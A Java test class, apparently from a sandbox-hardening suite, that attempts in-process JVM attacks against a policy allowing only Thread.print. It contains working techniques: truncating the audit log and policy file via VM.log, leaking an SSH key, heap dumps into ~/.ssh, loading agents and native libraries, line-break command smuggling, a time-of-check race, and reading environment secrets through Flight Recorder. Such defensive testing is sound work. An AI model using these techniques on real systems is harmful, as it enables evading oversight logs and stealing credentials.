package dev.agentguard.apps.attacks;

import com.sun.management.HotSpotDiagnosticMXBean;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.jar.Attributes;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;
import javax.management.ObjectName;

/**
 * The JVM's own machinery, in-process (issue 12, docs/design/jvm-machinery.md): diagnostic commands that
 * read or write files or load code, a second command smuggled behind a granted one, heap dumps by API and
 * by flag, Flight Recorder's record of the environment. The policy grants {@code Thread.print} only; the
 * parent test checks the effects from outside (the audit log and policy intact, no dump, no marker).
 */
public final class JvmMachineryAttack implements Attack {
    public static void main(String[] args) {
        AttackSuite.runOne("JvmMachineryAttack", new JvmMachineryAttack());
    }

    @Override
    public void run(AttackTarget t, AttackReport report) throws Exception {
        Path out = t.workdir().resolve("out");
        Files.createDirectories(out);
        report.control("diagnostic-thread-print-granted", dcmd("threadPrint", "-l").contains("main"), "Thread.print ran");

        // VM.log renames an existing file to PATH.0 and truncates PATH: the audit log, the policy.
        report.guardMustDeny("dcmd-vm-log-rotates-audit-log",
                () -> dcmd("vmLog", "output=" + t.auditLog(), "what=all=info"), "VM.log ran on the audit log");
        report.guardMustDeny("dcmd-vm-log-replaces-policy",
                () -> dcmd("vmLog", "output=" + t.policyFile()), "VM.log ran on the policy file");
        // JDK 17 echoes the directives file in its parse error.
        report.grab("dcmd-directives-add-reads-ssh-key", () -> dcmd("compilerDirectivesAdd", t.sshKey().toString()));
        // GC.heap_dump is not exported to the MBean (only to jcmd): the JDK refuses it; the parent checks the file.
        report.mustThrow("dcmd-heap-dump-into-ssh", () -> dcmd("gcHeapDump",
                t.home().resolve(".ssh/authorized_keys").toString()), "GC.heap_dump ran");
        boolean jdk25 = Runtime.version().feature() >= 25;
        // On 17 perfmap takes no argument (it writes /tmp/perf-PID.map); on 25 it takes the file.
        report.guardMustDeny("dcmd-perfmap", () -> {
            if (jdk25) {
                dcmd("compilerPerfmap", t.outsideMarker("perf.map").toString());
            } else {
                dcmd("compilerPerfmap");
            }
        }, "Compiler.perfmap ran");
        if (jdk25) {
            report.guardMustDeny("dcmd-dump-map", () -> dcmd("systemDumpMap", "-F=" + t.outsideMarker("dump-map")),
                    "System.dump_map ran");
            report.guardMustDeny("dcmd-thread-dump-to-file", () -> dcmd("threadDumpToFile",
                    t.outsideMarker("threads").toString()), "Thread.dump_to_file ran");
        } else {
            report.blocked("dcmd-dump-map", "jdk: System.dump_map is not in JDK 17");
            report.blocked("dcmd-thread-dump-to-file", "jdk: Thread.dump_to_file is not in JDK 17");
        }
        report.guardMustDeny("dcmd-jfr-configure-repository", () -> dcmd("jfrConfigure",
                "repositorypath=" + out.resolve("repo")), "JFR.configure moved the repository");
        report.guardMustDeny("dcmd-jfr-start-file", () -> dcmd("jfrStart",
                "filename=" + t.outsideMarker("rec.jfr")), "JFR.start ran");
        report.grab("dcmd-vm-info-environment", () -> dcmd("vmInfo"));
        report.guardMustDeny("dcmd-cds-dump", () -> dcmd("vmCds", "dynamic_dump",
                t.outsideMarker("cds.jsa").toString()), "VM.cds ran");
        // A Java agent the program wrote itself, and a native library, loaded through the command.
        Path agentJar = writeAgentJar(out.resolve("agent.jar"), t.execMarker("late-agent").toString());
        report.attempt("dcmd-jvmti-agent-load-jar", () -> dcmd("jvmtiAgentLoad",
                agentJar.toString(), t.execMarker("late-agent").toString()),
                () -> AttackReport.exists(t.execMarker("late-agent")));
        report.guardMustDeny("dcmd-jvmti-agent-load-native", () -> dcmd("jvmtiAgentLoad",
                t.outside().resolve("lib/libevil.so").toString()), "JVMTI.agent_load ran the library");
        // The granted command with a second one behind a line break: HotSpot splits the line.
        report.guardMustDeny("dcmd-line-break-smuggles-heap-dump", () -> dcmd("threadPrint",
                "-l\nGC.heap_dump " + t.outsideMarker("smuggled.hprof")), "the smuggled command ran");
        // The arguments array changed by another thread after the check: the JDK runs the checked copy.
        report.attempt("dcmd-arguments-swapped-after-check", () -> swapRace(t),
                () -> AttackReport.exists(t.execMarker("raced.log")));

        HotSpotDiagnosticMXBean hotspot = ManagementFactory.getPlatformMXBean(HotSpotDiagnosticMXBean.class);
        System.setProperty("jdk.management.heapdump.allowAnyFileSuffix", "true");
        report.guardMustDeny("heap-dump-api-into-ssh", () -> hotspot.dumpHeap(
                t.home().resolve(".ssh/authorized_keys").toString(), true), "dumpHeap wrote into ~/.ssh");
        report.guardMustDeny("heap-dump-api-into-out", () -> hotspot.dumpHeap(out.resolve("heap.hprof").toString(), true),
                "dumpHeap wrote a dump (the environment and every secret) the program can read");
        report.guardMustDeny("set-flag-heap-dump-path", () -> hotspot.setVMOption("HeapDumpPath",
                t.outsideMarker("gc.hprof").toString()), "HeapDumpPath was set");
        report.attempt("set-flag-heap-dump-before-gc", () -> {
            try {
                hotspot.setVMOption("HeapDumpBeforeFullGC", "true");
            } finally {
                System.gc();
            }
        }, () -> AttackReport.exists(t.workdir().resolve("java_pid" + ProcessHandle.current().pid() + ".hprof")));
        report.grab("jfr-records-environment", () -> recordEnvironment(out.resolve("env.jfr")));
    }

    /** Invokes a DiagnosticCommand MBean operation (the in-process face of jcmd) with string arguments. */
    static String dcmd(String operation, String... args) throws Exception {
        ObjectName name = new ObjectName("com.sun.management:type=DiagnosticCommand");
        Object[] params = args.length == 0 ? null : new Object[] {args};
        String[] signature = args.length == 0 ? null : new String[] {String[].class.getName()};
        return String.valueOf(ManagementFactory.getPlatformMBeanServer().invoke(name, operation, params, signature));
    }

    /** Flips the caller's argument between a harmless and a dumping value while Thread.print runs, bounded. */
    private static void swapRace(AttackTarget t) throws Exception {
        String[] args = {"-l"};
        String evil = "-l\nVM.log output=" + t.execMarker("raced.log");
        Thread flipper = new Thread(() -> {
            for (int i = 0; i < 200_000 && !Thread.currentThread().isInterrupted(); i++) {
                args[0] = (i & 1) == 0 ? evil : "-l";
            }
        });
        flipper.start();
        ObjectName name = new ObjectName("com.sun.management:type=DiagnosticCommand");
        try {
            for (int i = 0; i < 50; i++) {
                args[0] = "-l";
                try {
                    ManagementFactory.getPlatformMBeanServer().invoke(name, "threadPrint", new Object[] {args},
                            new String[] {String[].class.getName()});
                } catch (Exception denied) {
                    // A denial of the evil value is expected; the effect is what counts.
                }
            }
        } finally {
            flipper.interrupt();
            flipper.join();
        }
    }

    private static String recordEnvironment(Path file) throws Exception {
        StringBuilder found = new StringBuilder();
        try (jdk.jfr.Recording recording = new jdk.jfr.Recording()) {
            recording.enable("jdk.InitialEnvironmentVariable");
            recording.start();
            recording.stop();
            recording.dump(file);
        }
        for (jdk.jfr.consumer.RecordedEvent e : jdk.jfr.consumer.RecordingFile.readAllEvents(file)) {
            if (e.getEventType().getName().equals("jdk.InitialEnvironmentVariable")) {
                found.append(e.getString("key")).append('=').append(e.getString("value")).append('\n');
            }
        }
        return found.toString();
    }

    /** A Java agent jar, written by the program into its own output folder, whose agentmain leaves a marker. */
    public static Path writeAgentJar(Path jar, String marker) throws IOException {
        Manifest manifest = new Manifest();
        manifest.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
        manifest.getMainAttributes().putValue("Agent-Class", LateAgent.class.getName());
        manifest.getMainAttributes().putValue("Launcher-Agent-Class", LateAgent.class.getName());
        String entry = LateAgent.class.getName().replace('.', '/') + ".class";
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (var in = JvmMachineryAttack.class.getClassLoader().getResourceAsStream(entry)) {
            in.transferTo(bytes);
        }
        try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(jar), manifest)) {
            out.putNextEntry(new JarEntry(entry));
            out.write(bytes.toByteArray());
            out.closeEntry();
        }
        return jar;
    }
}
